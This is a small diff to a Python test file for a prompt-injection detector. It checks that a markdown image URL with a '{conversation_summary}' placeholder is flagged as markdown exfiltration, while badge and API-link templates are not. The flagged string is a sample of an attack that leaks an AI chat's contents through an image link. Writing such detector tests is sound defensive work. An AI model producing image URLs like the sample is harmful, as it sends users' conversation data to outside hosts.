@@ -257,7 +257,8 @@ def test_hidden_span_without_instruction_cues_is_not_flagged() -> None:
 def test_markdown_image_with_data_placeholder_is_flagged_but_templates_are_not() -> None:
     (finding,) = DET.detect("![a](https://img.example.org/p.png?d={conversation_summary})")
     assert finding.recognizer == "injection/markdown-exfil-url"
-    assert DET.detect("[![Build](https://ci.example.com/b.svg?branch={branch})](https://x.io)") == []
+    badge = "[![Build](https://ci.example.com/b.svg?branch={branch})](https://x.io)"
+    assert DET.detect(badge) == []
     assert DET.detect("GET [/users/{id}](https://api.example.com/users/{id})") == []
 
 
